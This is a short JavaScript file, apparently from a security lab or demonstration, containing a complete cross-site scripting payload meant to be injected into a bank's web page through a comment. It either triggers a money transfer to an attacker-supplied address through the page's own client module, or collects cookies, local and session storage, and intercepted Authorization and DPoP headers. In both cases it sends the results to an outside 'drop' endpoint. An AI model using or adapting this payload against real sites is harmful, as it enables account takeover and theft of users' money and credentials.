// What the attacker gets into the bank's page by a comment. With ?ride=EMAIL it has the page send money to that address;
// without, it reads whatever it can and sends it to the drop box.
(() => {
  const own = new URL(document.currentScript.src);
  const drop = (loot) =>
    send(new URL("/drop", own), { method: "POST", mode: "no-cors", body: JSON.stringify({ from: location.origin, ...loot }) });
  const send = window.fetch.bind(window);
  // The bank's own module, as the page has it: a module is loaded once, so these are the page's functions and its memory.
  const page = () => import(new URL("/web/client.js", location).href);

  async function ride(to) {
    const answer = await (await page()).call("POST", "/api/transfer", { to, amount_cents: 5000 });
    return drop({ by: "ride", status: answer.status, reason: answer.reason, detail: answer.detail });
  }

  async function read() {
    const loot = {
      by: "read",
      cookie: document.cookie,
      local: { ...localStorage },
      session: { ...sessionStorage },
      authorization: null,
      proof: null,
    };
    // A token in memory has no name out here, but it has to go through fetch.
    window.fetch = (input, init) => {
      const headers = new Request(input, init).headers;
      loot.authorization = headers.get("authorization") ?? loot.authorization;
      loot.proof = headers.get("dpop") ?? loot.proof;
      return send(input, init);
    };
    try {
      await (await page()).call("GET", "/api/me");
    } finally {
      window.fetch = send;
      await drop(loot);
    }
  }

  const to = own.searchParams.get("ride");
  (to === null ? read() : ride(to)).catch((why) => drop({ by: "failed", why: String(why) }));
})();
